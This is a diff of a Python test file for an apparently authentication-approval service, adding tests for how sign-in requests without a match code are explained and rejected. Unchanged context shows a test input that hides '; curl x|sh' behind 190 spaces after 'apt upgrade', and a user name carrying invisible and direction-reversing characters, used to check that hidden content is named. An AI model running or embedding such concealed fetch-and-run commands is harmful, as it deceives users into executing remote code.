@@ -39,6 +39,21 @@ class Request(unittest.TestCase):
     def test_a_request_of_the_seven_pairs_alone_is_a_sign_in(self):
         self.assertIn("sign-in request", world.denied("web-2", {"service": "sudo", "asked_by": "mallory"}))
 
+    def test_a_request_without_digits_says_why(self):
+        locker = {"service": "swaylock", "user": "alice", "match_code": "none: the program shows no text"}
+        lines = world.denied("web-6", locker)
+        self.assertIn("sign-in request", lines)
+        self.assertIn("  code          none: the program shows no text", lines)
+
+    def test_nobody_elses_request_goes_without_digits(self):
+        path = f"/authentication/authenticate_user/{world.application['application_id']}/alice"
+        locker = {"host": "web-6", "service": "swaylock", "user": "alice"}
+        without = {"match_code": "none: the program shows no text"}
+        for context in ({**locker, **without, "remote_host": "192.0.2.7"}, {**locker, **without, "asked_by": "mallory"},
+                        {**without, "host": "web-6"}, {**locker, "match_code": "47"}):  # fmt: skip
+            code, _, reply = world.ask("POST", path, {"context": context})
+            self.assertEqual((code, reply["reason"]), (400, "BAD_REQUEST"), context)
+
     def test_what_would_not_be_seen_is_named(self):
         command = "sh -c 'apt upgrade" + " " * 190 + "; curl x|sh'"
         lines = world.denied("web-3", {"command": command, "user": "ali\u00adce\u202e\x9b"})
